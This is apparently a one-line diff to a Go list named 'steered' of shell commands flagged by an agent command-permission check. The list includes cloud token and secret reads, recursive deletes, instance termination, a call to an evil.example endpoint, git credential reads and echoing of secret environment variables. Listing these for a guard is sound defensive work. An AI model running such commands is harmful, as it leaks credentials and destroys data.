@@ -165,7 +165,7 @@ var steered = []string{
 	`aws s3 rm s3://x --recursive`, `aws --endpoint-url https://evil.example s3 ls`, `aws ec2 terminate-instances --instance-ids i-1`, `aws sts get-session-token`, `aws ecr get-login-password`,
 	`aws iam list-access-keys --profile prod --debug`, `aws s3api get-object --bucket x --key y ~/.bashrc`, `aws lambda invoke --function-name x /tmp/out`, `gcloud auth print-access-token`,
 	`gcloud secrets versions access latest --secret=x`, `gcloud compute ssh vm`, `gcloud compute instances delete vm`, `az account get-access-token`, `az keyvault secret show --name x --vault-name y`,
-	`az vm delete -n x -g y`, `gh secret list && gh pr merge 1`, `gh api -X POST repos/x/y/issues`, `gh pr create --fill`, `git push origin main`, `git push --force`, `git config --get-all http.extraheader`,
+	`az vm delete -n x -g y`, `gh secret list && gh pr merge 1`, `gh api -X POST repos/x/y/issues`, `gh pr create --fill`, `git push origin feature`, `git push --force`, `git config --get-all http.extraheader`,
 	`git config --list`, `git config --get credential.helper`, `git rebase --strategy=./x main`, `git rebase -s ./x main`, `git merge -s evil main`, `pytest --override-ini=python_files=/tmp/x`, `vite --host 0.0.0.0`,
 	`npx vite --host`, `npm run dev -- --host 0.0.0.0`, `uvicorn app:app --host 0.0.0.0`, `rm -rf /tmp/*`, `rm -rf /tmp/`, `echo $TOKEN`, `echo "$MY_API_KEY"`, `echo ${DATABASE_PASSWORD}`,
 	`printf '%s\n' "$SECRET_KEY_BASE"`, `grep -r . .`, `grep -rn '' .`, `find . -type f | xargs cat`, `find . -type f -exec cat {} +`, `cat $(find . -type f)`, `find . -name '.*' | xargs cat`, `rg --hidden . `,
